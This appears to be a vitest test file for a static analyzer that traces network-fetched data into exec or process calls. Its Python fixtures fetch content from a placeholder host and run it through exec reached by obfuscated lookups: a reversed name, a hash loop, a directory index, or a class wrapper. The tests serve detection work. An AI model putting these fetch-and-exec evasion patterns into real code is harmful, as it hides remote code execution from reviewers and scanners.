import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import builtins, math, os\nfrom urllib.request import urlopen\nd = urlopen("https://x.example.invalid/a").read()\n';
const runIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'network', to: ['exec', 'process'] }).map(({ when }) => when) ?? [];

test.each([
  ['in a loop', 'for n in dir(builtins):\n    if len(n) == 4 and hash(n) == 1: getattr(builtins, n)(d)'],
  ['in a list', 'f = [getattr(builtins, n) for n in dir(builtins) if n[::-1] == "cexe"][0]\nf(d)'],
  ['by its place', 'getattr(os, dir(os)[310])(d)'],
  ['for a class that is made of it', 'R = type("R", (), {"go": staticmethod(exec)})\nR.go(d)'],
])('a function that is picked %s runs what it is given', async (_, text) => {
  expect(await runIn(text)).toContain('import');
});

test.each([
  ['is of a module that runs nothing', 'for n in dir(math): getattr(math, n)(d)'],
  ['is only shown', 'for n in dir(builtins): print(getattr(builtins, n), d)'],
  ['has a name that stands elsewhere', 'cast = getattr(builtins, kind)\ncast(d)'],
])('a function that %s does not', async (_, text) => {
  expect(await runIn(text)).toEqual([]);
});
